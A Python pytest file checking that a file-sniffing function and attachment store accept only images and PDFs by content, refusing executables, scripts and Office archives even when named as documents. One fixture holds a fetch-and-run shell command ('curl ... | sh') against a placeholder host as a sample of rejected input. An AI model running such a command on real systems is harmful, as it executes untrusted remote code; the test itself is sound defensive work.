"""Type from content, never from the name: sniff() and the store's refusals of non-documents."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dikjamila.errors import InvalidInput
from dikjamila.files import HEAD_SIZE, AttachmentStore, sniff
from dikjamila.files.sniff import describe
from tests.core.test_images import files_under, image_bytes, jpeg_bytes
from tests.core.test_pdfs import pdf_bytes

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 400
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46 + b"\x80\x00\x00\x00" + b"PE\x00\x00" * 60
SHELL = b"#!/bin/sh\ncurl http://contoh.invalid/x | sh\n"


def docx_bytes() -> bytes:
    """A minimal Office Open XML document (a ZIP), as Word would send it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


@pytest.fixture
def store(tmp_path: Path) -> AttachmentStore:
    return AttachmentStore(tmp_path / "blobs")


# -- sniff() ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data,expected",
    [
        (lambda: jpeg_bytes(), ("image", "image/jpeg")),
        (lambda: image_bytes("PNG"), ("image", "image/png")),
        (lambda: image_bytes("WEBP"), ("image", "image/webp")),
        (lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", ("image", "image/heic")),
        (lambda: pdf_bytes(), ("pdf", "application/pdf")),
    ],
)
def test_sniff_accepts_allowlisted_types(data, expected):
    assert sniff(data()[:HEAD_SIZE]) == expected


@pytest.mark.parametrize(
    "head",
    [
        ELF,
        PE,
        SHELL,
        docx_bytes(),
        image_bytes("GIF"),
        image_bytes("BMP"),
        b"",
        b"%PD",  # too short to be a PDF header
        b"\x00\x00\x00\x18ftypavif",  # ISO media, but not a HEIC brand
        b"MZ" + b"\x00" * 100 + b"%PDF-1.7",  # a PDF header that is not at offset 0
        b"\xef\xbb\xbf%PDF-1.4",  # a text BOM before the header
    ],
)
def test_sniff_refuses_everything_else(head):
    assert sniff(head[:HEAD_SIZE]) is None


def test_describe_names_the_refused_content():
    assert describe(ELF) == describe(PE) == describe(SHELL) == "program/skrip"
    assert describe(docx_bytes()) == "arsip ZIP atau dokumen Office"
    assert describe(image_bytes("GIF")) == "image/gif"
    assert describe(b"halo") == "jenis tidak dikenal"


@given(st.binary(max_size=64))
def test_sniff_total_on_arbitrary_bytes(head):
    result = sniff(head)
    assert result is None or result in {
        ("image", "image/jpeg"),
        ("image", "image/png"),
        ("image", "image/webp"),
        ("image", "image/heic"),
        ("pdf", "application/pdf"),
    }
    assert isinstance(describe(head), str)


@given(st.sampled_from([b"MZ", b"\x7fELF", b"#!", b"PK\x03\x04"]), st.binary(max_size=64))
def test_programs_and_archives_never_sniff_as_documents(prefix, rest):
    assert sniff(prefix + rest) is None


# -- the store decides by content, not by name ------------------------------------------------


@pytest.mark.parametrize(
    "data,kind",
    [(lambda: pdf_bytes(), "pdf"), (lambda: jpeg_bytes(), "image"), (lambda: image_bytes("PNG"), "image")],
)
@pytest.mark.parametrize("name", ["foto.jpg", "surat.pdf", "tanpa-ekstensi", "dokumen.exe"])
def test_kind_ignores_the_name(store, data, kind, name):
    blob = store.put_bytes(data(), name)
    assert blob.kind == kind and blob.original_name == name


@pytest.mark.parametrize("data", [ELF, PE, SHELL, docx_bytes()], ids=["elf", "pe", "shell", "docx"])
def test_program_named_pdf_refused(store, data):
    kept = store.put_bytes(pdf_bytes(), "lama.pdf")
    before = files_under(store.root)
    with pytest.raises(InvalidInput) as info:
        store.put_bytes(data, "surat.pdf")
    message = info.value.message
    assert "surat.pdf" in message and "bukan PDF atau foto" in message
    assert files_under(store.root) == before and not any((store.root / "tmp").iterdir())
    assert list(store.iter_blobs()) == [kept.sha256]


def test_program_refused_through_put_file_and_stream(store, tmp_path):
    exe = tmp_path / "surat.pdf"
    exe.write_bytes(PE)
    with pytest.raises(InvalidInput, match="program/skrip"):
        store.put_file(exe)
    with pytest.raises(InvalidInput, match="bukan PDF atau foto"):
        store.put_stream(io.BytesIO(ELF), "ktp.jpg")
    assert files_under(store.root) == set()
